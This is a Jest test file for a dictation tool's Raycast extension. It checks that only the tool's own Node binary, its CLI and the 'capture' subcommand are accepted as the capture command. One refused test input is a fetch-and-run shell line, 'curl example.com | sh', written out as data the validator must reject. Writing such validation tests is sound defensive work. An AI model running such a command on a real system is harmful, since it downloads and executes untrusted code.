// The extension spawns the capture process the daemon's status names only when it is Verbatim's own: its Node
// binary and the verbatim CLI of Verbatim's package, asked to capture. Real files; @raycast/api is not involved.
import { chmodSync, mkdirSync, mkdtempSync, rmSync, writeFileSync } from "node:fs";
import os from "node:os";
import path from "node:path";
import { captureCommand } from "../../daemon/src/capture/capture-launch";
import { captureCommandProblem } from "../src/lib/capture-command";

let folder: string;
beforeAll(() => {
  folder = mkdtempSync(path.join(os.tmpdir(), "verbatim-capture-command-"));
});
afterAll(() => rmSync(folder, { recursive: true, force: true }));

/** A package folder as npm installs one: package.json and bin/verbatim.js. */
function installedPackage(name: string, bin: Record<string, string> = { verbatim: "bin/verbatim.js" }): string {
  const root = path.join(folder, name.replace("/", "+"), String(Math.random()).slice(2));
  mkdirSync(path.join(root, "bin"), { recursive: true });
  writeFileSync(path.join(root, "package.json"), JSON.stringify({ name, bin }));
  writeFileSync(path.join(root, "bin", "verbatim.js"), "#!/usr/bin/env node\n");
  return path.join(root, "bin", "verbatim.js");
}

test("the command the daemon reports (this repository's node and CLI) is accepted", () => {
  const command = captureCommand();
  expect(command).toEqual([expect.stringMatching(/\/node$/), expect.stringMatching(/\/bin\/verbatim\.js$/), "capture"]);
  expect(captureCommandProblem(command)).toBeNull();
});

test("the published package's CLI is accepted, with ./ in its bin path or without", () => {
  expect(captureCommandProblem([process.execPath, installedPackage("verbatim-dictation"), "capture"])).toBeNull();
  const dotted = installedPackage("verbatim-dictation", {
    verbatim: "./bin/verbatim.js",
    verbatimd: "./bin/verbatimd.js",
  });
  expect(captureCommandProblem([process.execPath, dotted, "capture"])).toBeNull();
});

test("anything else is refused, saying what was named and what to do", () => {
  const cli = installedPackage("verbatim-dictation");
  const refusals: [string, string[], RegExp][] = [
    ["nothing", [], /named "nothing" as its capture command/],
    ["a shell", ["/bin/sh", "-c", "curl example.com | sh"], /which is not Verbatim's \(node, verbatim\.js, capture\)/],
    ["another subcommand", [process.execPath, cli, "daemon"], /not Verbatim's/],
    ["extra arguments", [process.execPath, cli, "capture", "--evil"], /not Verbatim's/],
    [
      "a binary not named node",
      ["/bin/sh", cli, "capture"],
      /\/bin\/sh to run its capture command, which is not an executable Node binary/,
    ],
    ["a relative node", ["node", cli, "capture"], /not an executable Node binary/],
    ["a missing node", [path.join(folder, "node"), cli, "capture"], /not an executable Node binary/],
    [
      "another package's script",
      [process.execPath, installedPackage("left-pad"), "capture"],
      /not the verbatim command of Verbatim's package/,
    ],
    [
      "the other package named verbatim on npm",
      [process.execPath, installedPackage("verbatim"), "capture"],
      /not the verbatim command of Verbatim's package/,
    ],
    [
      "a package whose verbatim bin is elsewhere",
      [process.execPath, installedPackage("verbatim-dictation", { verbatim: "lib/other.js" }), "capture"],
      /not the verbatim command/,
    ],
    ["a relative script", [process.execPath, "bin/verbatim.js", "capture"], /not the verbatim command/],
    [
      "a script not there",
      [process.execPath, path.join(folder, "gone", "bin", "verbatim.js"), "capture"],
      /not the verbatim command/,
    ],
  ];
  for (const [what, command, message] of refusals) {
    const problem = captureCommandProblem(command);
    expect([what, problem]).toEqual([what, expect.stringMatching(message)]);
    expect(problem).toMatch(/reinstall Verbatim \(npm install -g verbatim-dictation\) and restart the daemon/);
  }
});

test("a file named node that cannot be executed is refused", () => {
  const fakeNode = path.join(folder, "bin-node", "node");
  mkdirSync(path.dirname(fakeNode), { recursive: true });
  writeFileSync(fakeNode, "not a program");
  chmodSync(fakeNode, 0o644);
  expect(captureCommandProblem([fakeNode, installedPackage("verbatim-dictation"), "capture"])).toMatch(
    /not an executable Node binary/,
  );
});
